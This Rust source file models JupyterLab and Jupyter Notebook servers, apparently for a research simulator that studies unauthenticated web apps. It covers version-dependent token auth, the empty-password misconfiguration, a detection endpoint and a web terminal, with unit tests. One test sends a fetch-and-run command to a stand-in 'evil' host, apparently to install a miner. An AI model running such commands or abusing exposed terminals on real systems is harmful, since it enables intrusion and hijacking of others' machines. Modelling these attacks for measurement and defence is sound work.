//! Jupyter Lab / Jupyter Notebook model (shared implementation; the two
//! products differ in branding and defaults).
//!
//! * Notebook < 4.3 (December 2016) required no authentication; 4.3
//!   introduced token auth by default. Lab always shipped with token
//!   auth. Both can be misconfigured by setting an *empty password*
//!   (`--NotebookApp.password=`), which disables all authentication —
//!   the StackOverflow workaround the paper quotes.
//! * Detection: `GET /api/terminals` contains 'JupyterLab' /
//!   'Jupyter Notebook' respectively.
//! * Abuse surface: the web terminal executes shell commands.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response, StatusCode};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Jupyter {
    pub(crate) base: BaseApp,
    terminals: u32,
}

impl Jupyter {
    /// `id` must be [`AppId::JupyterLab`] or [`AppId::JupyterNotebook`].
    pub fn new(id: AppId, version: Version, config: AppConfig) -> Self {
        assert!(
            matches!(id, AppId::JupyterLab | AppId::JupyterNotebook),
            "Jupyter models only the two Jupyter products"
        );
        Jupyter {
            base: BaseApp::new(id, version, config),
            terminals: 0,
        }
    }

    fn product(&self) -> &'static str {
        match self.base.id {
            AppId::JupyterLab => "JupyterLab",
            _ => "Jupyter Notebook",
        }
    }

    fn open(&self) -> bool {
        !self.base.config.auth_enabled
    }

    fn login_redirect(&self, from: &str) -> Response {
        Response::redirect(&format!("/login?next={from}"))
    }

    /// Login page. The page carries product branding (so stage II can
    /// identify secure instances for the prevalence counts) but the
    /// detection plugins never see it: they probe `/api/terminals`, which
    /// answers 403 without markers when auth is on.
    fn login_page(&self) -> Response {
        let brand = match self.base.id {
            AppId::JupyterLab => {
                "<span class=\"brand\">JupyterLab</span>\
                                  <script src=\"/lab/static/login.js\"></script>"
            }
            _ => {
                "<span class=\"brand\">Jupyter Notebook</span>\
                  <script src=\"/static/notebook/js/login.js\"></script>"
            }
        };
        Response::html(html::page(
            "Sign in",
            &format!(
                "{brand}<form action=\"/login\" method=\"post\" id=\"login\">\
                 <label>Password or token:</label>\
                 <input type=\"password\" name=\"password\"><button>Log in</button></form>\
                 <p>Token authentication is enabled</p>"
            ),
        ))
    }

    fn tree_page(&self) -> Response {
        let (title, body) = match self.base.id {
            AppId::JupyterLab => (
                "JupyterLab",
                "<div id=\"jupyter-config-data\" data-app=\"@jupyterlab/application\">\
                 </div><script src=\"/lab/static/main.js\"></script>",
            ),
            _ => (
                "Home Page - Select or create a notebook",
                "<div id=\"jupyter-config-data\" data-app=\"notebook\"></div>\
                 <script src=\"/static/notebook/js/main.js\"></script>\
                 <span>Jupyter Notebook</span><div class=\"nbextensions\"></div>",
            ),
        };
        Response::html(html::page_with_head(
            title,
            &html::css("/static/style.css"),
            body,
        ))
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        let open = self.open();
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/")
            | (nokeys_http::Method::Get, "/tree")
            | (nokeys_http::Method::Get, "/lab") => {
                if open {
                    self.tree_page().into()
                } else {
                    self.login_redirect(req.path()).into()
                }
            }
            (nokeys_http::Method::Get, "/login") => self.login_page().into(),
            (nokeys_http::Method::Get, "/api/terminals") => {
                if open {
                    Response::json(format!(
                        "{{\"server\":\"{}\",\"terminals\":[]}}",
                        self.product()
                    ))
                    .into()
                } else {
                    Response::new(StatusCode::FORBIDDEN)
                        .with_header("Content-Type", "application/json")
                        .with_body(r#"{"message":"Forbidden"}"#)
                        .into()
                }
            }
            (nokeys_http::Method::Post, "/api/terminals") => {
                if open {
                    self.terminals += 1;
                    HandleOutcome::with_event(
                        Response::json(format!("{{\"name\":\"{}\"}}", self.terminals)),
                        AppEvent::TerminalOpened,
                    )
                } else {
                    Response::new(StatusCode::FORBIDDEN).into()
                }
            }
            (nokeys_http::Method::Post, p) if p.starts_with("/api/terminals/") => {
                if !open {
                    return Response::new(StatusCode::FORBIDDEN).into();
                }
                let command = req.body_text();
                if command.trim() == "shutdown" || command.contains("shutdown -h") {
                    HandleOutcome::with_event(
                        Response::text("shutting down"),
                        AppEvent::ShutdownRequested,
                    )
                } else {
                    HandleOutcome::with_event(
                        Response::text("$ "),
                        AppEvent::CommandExecuted { command },
                    )
                }
            }
            (nokeys_http::Method::Get, "/api/status") => {
                if open {
                    Response::json(format!(
                        "{{\"started\":\"2021-06-09T00:00:00Z\",\"version\":\"{}\"}}",
                        self.base.version.number()
                    ))
                    .into()
                } else {
                    Response::new(StatusCode::FORBIDDEN).into()
                }
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.terminals = 0;
    }
}

impl_webapp!(Jupyter, Jupyter::reset_state);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn notebook_at(triple: (u16, u16, u16)) -> Jupyter {
        let v = *release_history(AppId::JupyterNotebook)
            .iter()
            .find(|v| v.triple() == triple)
            .unwrap();
        Jupyter::new(
            AppId::JupyterNotebook,
            v,
            AppConfig::default_for(AppId::JupyterNotebook, &v),
        )
    }

    #[test]
    fn old_notebook_is_open_by_default() {
        let mut app = notebook_at((4, 2, 0));
        assert!(app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/api/terminals").response.body_text();
        assert!(body.contains("Jupyter Notebook"));
    }

    #[test]
    fn notebook_43_requires_token() {
        let mut app = notebook_at((4, 3, 0));
        assert!(!app.is_vulnerable());
        let out = DRIVER.get(&mut app, "/api/terminals");
        assert_eq!(out.response.status.as_u16(), 403);
        assert!(!out.response.body_text().contains("Jupyter Notebook"));
    }

    #[test]
    fn empty_password_misconfiguration_reopens_new_versions() {
        let v = *release_history(AppId::JupyterNotebook).last().unwrap();
        let cfg = AppConfig::vulnerable_for(AppId::JupyterNotebook, &v);
        let mut app = Jupyter::new(AppId::JupyterNotebook, v, cfg);
        assert!(app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/api/terminals").response.body_text();
        assert!(body.contains("Jupyter Notebook"));
    }

    #[test]
    fn lab_marker_differs_from_notebook() {
        let v = *release_history(AppId::JupyterLab).last().unwrap();
        let cfg = AppConfig::vulnerable_for(AppId::JupyterLab, &v);
        let mut app = Jupyter::new(AppId::JupyterLab, v, cfg);
        let body = DRIVER.get(&mut app, "/api/terminals").response.body_text();
        assert!(body.contains("JupyterLab"));
        assert!(!body.contains("Jupyter Notebook"));
    }

    #[test]
    fn terminal_executes_commands() {
        let mut app = notebook_at((4, 2, 0));
        let out = DRIVER.post(&mut app, "/api/terminals", "");
        assert!(matches!(out.events[0], AppEvent::TerminalOpened));
        let out = DRIVER.post(
            &mut app,
            "/api/terminals/1",
            "wget http://evil/min.sh -O- | sh",
        );
        assert!(matches!(
            &out.events[0],
            AppEvent::CommandExecuted { command } if command.contains("min.sh")
        ));
    }

    #[test]
    fn vigilante_shutdown_is_recognized() {
        let v = *release_history(AppId::JupyterLab).last().unwrap();
        let mut app = Jupyter::new(
            AppId::JupyterLab,
            v,
            AppConfig::vulnerable_for(AppId::JupyterLab, &v),
        );
        let out = DRIVER.post(&mut app, "/api/terminals/1", "shutdown");
        assert!(matches!(out.events[0], AppEvent::ShutdownRequested));
    }

    #[test]
    fn login_page_brands_but_api_stays_markerless() {
        let mut app = notebook_at((4, 3, 0));
        let out = DRIVER.get(&mut app, "/");
        assert!(out.response.is_followable_redirect());
        // Stage II can identify the product from the login page...
        let login = DRIVER.get(&mut app, "/login").response.body_text();
        assert!(login.contains("Jupyter Notebook"));
        // ...but the detection endpoint carries no marker when secured.
        let api = DRIVER.get(&mut app, "/api/terminals").response.body_text();
        assert!(!api.contains("Jupyter Notebook"));
    }
}
